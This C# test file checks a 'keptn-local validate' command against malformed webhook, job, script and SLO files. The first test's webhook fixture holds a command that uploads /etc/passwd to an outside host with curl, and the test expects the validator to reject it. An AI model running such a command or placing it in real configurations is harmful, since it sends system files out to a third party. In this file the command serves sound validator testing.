using System.Text.Json.Nodes;

namespace Keptn.Sdk.EndToEnd.Tests;

/// <summary><c>keptn-local validate</c>: what it finds in files, and how it says so.</summary>
public sealed class KeptnLocalValidateTests : KeptnLocalCommands
{
    [Fact]
    public async Task Validate_WebhookThatWouldNotRun_SaysWhy()
    {
        Write("dev/carts/webhook/webhook.yaml", """
            apiVersion: webhookconfig.keptn.sh/v1alpha1
            kind: WebhookConfig
            metadata:
              name: chat
            spec:
              webhooks:
                - type: sh.keptn.event.deployment.triggered
                  subscriptionID: one
                  requests:
                    - curl --upload-file /etc/passwd https://chat.example.com/{{.data.service}}
            """);

        var run = await KeptnLocalAsync("validate", Folder);

        run.ExitCode.Should().Be(1);
        run.Output.Should().ContainSingle(line => line.Contains("webhook.yaml:", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal))
            .Which.Should().Contain("--upload-file");
    }

    [Fact]
    public async Task Validate_ScriptsThatNeverRunOrCannotBeSent_SaysWhich()
    {
        Write("dev/carts/generic-executor/test.trigger.sh", "echo test");
        Write("dev/carts/generic-executor/test.triggered.sh", "echo test");
        Write("dev/generic-executor/release.triggered.http", "POST https://chat.example.com/${project}\nno header\n");
        Write("dev/generic-executor/README.md", "No script.");

        var run = await KeptnLocalAsync("validate", Folder);

        run.ExitCode.Should().Be(1);
        run.Output.Should().Contain(line => line.Contains("test.trigger.sh: warning: never runs", StringComparison.Ordinal));
        run.Output.Should().Contain(line => line.Contains("release.triggered.http:2: error: a header must be", StringComparison.Ordinal));
        run.Output.Should().NotContain(line => line.Contains("test.triggered.sh", StringComparison.Ordinal) || line.Contains("README", StringComparison.Ordinal));
        run.Output[^1].Should().StartWith("FAILED: 4 files, 1 error, 1 warning");
    }

    [Fact]
    public async Task Validate_JobThatNeverMatches_IsWarnedOf()
    {
        Write("dev/carts/job/config.yaml", """
            apiVersion: v2
            actions:
              - name: load
                events:
                  - name: "*"
                  - name: sh.keptn.event.test.triggered
                    jsonpath:
                      property: $.data.items[*]
                      match: one
                tasks:
                  - name: run
                    image: docker.io/library/alpine:3.20
            """);

        var run = await KeptnLocalAsync("validate", Folder);

        run.ExitCode.Should().Be(0);
        run.Output.Should().Contain(line => line.Contains("config.yaml: warning: actions[0].events[0].name: it never matches", StringComparison.Ordinal));
        run.Output.Should().Contain(line => line.Contains("warning: actions[0].events[1].jsonpath.property: it never matches: it finds a list", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Validate_BadFiles_NamesFileLineFieldAndReason()
    {
        Write("dev/carts/slo.yaml", "spec_version: '1.0'\nobjectives:\n  - sli: rt\n    pass: nothing\ntotal_score:\n  pass: 90%\n");
        Write("dev/carts/webhook/webhook.yaml", "kind: WebhookConfig\n");
        Write("dev/carts/job/config.yaml", "apiVersion: v2\nactions:\n  - name: x\n    tasks:\n      - image: 7\n        name: []\n");
        Write("dev/carts/notes.yaml", "not: ours");

        var text = await KeptnLocalAsync("validate", Folder);
        var json = await KeptnLocalAsync("validate", Folder, "--json");

        text.ExitCode.Should().Be(1);
        text.Output.Should().Contain(line => line.StartsWith($"{Path.Combine(Folder, "dev/carts/slo.yaml")}:4: error: objectives[0].pass: ", StringComparison.Ordinal));
        text.Output.Should().Contain(line => line.Contains("webhook.yaml", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal));
        text.Output.Should().Contain(line => line.Contains("job/config.yaml", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal));
        text.Output[^1].Should().MatchRegex("^FAILED: 4 files, [0-9]+ errors, ");
        json.ExitCode.Should().Be(1);
        var lines = json.Output.Select(line => JsonNode.Parse(line)!).ToList();
        lines.Should().Contain(line => line["fileKind"] != null && line["fileKind"]!.ToString() == "slo" && line["line"]!.GetValue<int>() == 4);
        lines[^1]["success"]!.GetValue<bool>().Should().BeFalse();
    }

    [Fact]
    public async Task Validate_GoodAndEmptyFolder_AreToldApart()
    {
        var good = await KeptnLocalAsync("validate", Folder);
        File.Delete(Path.Combine(Folder, "shipyard.yaml"));
        var empty = await KeptnLocalAsync("validate", Folder);
        var missing = await KeptnLocalAsync("validate", Path.Combine(Folder, "missing"));

        good.Should().BeEquivalentTo((0, new[] { "OK: 1 file, 0 errors, 0 warnings" }, string.Empty));
        empty.ExitCode.Should().Be(1);
        empty.Output[^1].Should().Contain("there is no file of Keptn");
        missing.ExitCode.Should().Be(2);
        missing.Error.Should().Contain("there is no folder");
    }
}
